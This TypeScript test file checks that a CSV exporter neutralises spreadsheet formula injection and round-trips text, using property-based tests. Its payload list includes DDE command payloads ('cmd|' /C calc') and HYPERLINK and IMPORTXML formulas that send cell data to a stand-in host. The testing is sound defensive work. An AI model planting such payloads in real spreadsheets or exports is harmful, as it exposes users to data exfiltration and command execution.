import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, type CsvColumn, csvHead, csvLine } from '../../../../lib/bundle/csv.ts';
import { unescapeFormula } from '../../../../lib/intake/formula-cell.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|'];
/** What a spreadsheet would run, or show as another value than the one that stands there. */
const PAYLOADS = [
  ...STARTS.flatMap((start) => [`${start}1+1`, ` ${start}1`, `${CSV_BOM}${start}1`, `\n${start}1`]),
  '=1\nfoo',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+49 30 12345',
  '-5',
  '@handle',
  "'=1+1",
  "''=1",
  '\u3000=1',
  '\u00a0=1',
  '=IMPORTXML(CONCAT("http://evil.test?",A1),"//a")',
  '"=1"',
  ';=1',
];

interface Row {
  text: string | null;
}
const TEXT: CsvColumn<Row>[] = [
  { title: 'A', kind: 'text', cell: ({ text }) => text },
  { title: 'B', kind: 'text', cell: ({ text }) => text },
];

function parsed(csv: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv.replace(CSV_BOM, ''), { skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

describe('a text in a CSV', () => {
  it(`cannot be taken for a formula, by any of ${PAYLOADS.length} payloads, and comes back as it was`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    for (const text of PAYLOADS) {
      const [, cells = []] = parsed(csvHead(TEXT) + csvLine(TEXT, { text }));
      for (const cell of cells) {
        expect(cell.trimStart().normalize('NFKC'), JSON.stringify(text)).not.toMatch(/^[=+\-@|]/);
        expect(cell, JSON.stringify(text)).not.toMatch(/^[\t\r\n]/);
        expect(unescapeFormula(cell)).toBe(text);
      }
    }
  });

  it('comes back as it was, whatever it is', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...PAYLOADS));
    const join = fc.array(text, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(join, { minLength: 1 }), (texts) => {
        const csv = csvHead(TEXT) + texts.map((one) => csvLine(TEXT, { text: one })).join('');
        const [, ...rows] = parsed(csv).map((cells) => cells.map(unescapeFormula));
        const filled = texts.filter((one) => one !== '');
        expect(rows.filter(([one]) => one !== '')).toEqual(filled.map((one) => [one, one]));
      }),
      { numRuns: 400 },
    );
  });
});

describe('a CSV', () => {
  it('has its mark of UTF-8, its line ends and its quotes by RFC 4180', () => {
    expect(
      csvHead(TEXT) + csvLine(TEXT, { text: 'a "b", c' }) + csvLine(TEXT, { text: null }),
    ).toBe('\ufeffA,B\r\n"a ""b"", c","a ""b"", c"\r\n,\r\n');
  });

  it('writes numbers, times and phones as they are, and only those', () => {
    const columns: CsvColumn<string | number | null>[] = [
      { title: 'N', kind: 'number', cell: (value) => value },
      { title: 'T', kind: 'time', cell: (value) => (typeof value === 'number' ? value : null) },
      { title: 'P', kind: 'phone', cell: (value) => value },
    ];
    expect(csvLine(columns, -5)).toBe("-5,1969-12-31T23:59:59.995Z,'-5\r\n");
    expect(csvLine(columns, '+4930123456')).toBe('4930123456,,+4930123456\r\n');
    expect(csvLine(columns, '+1(=2)')).toBe(",,'+1(=2)\r\n");
    expect(csvLine(columns, null)).toBe(',,\r\n');
  });
});
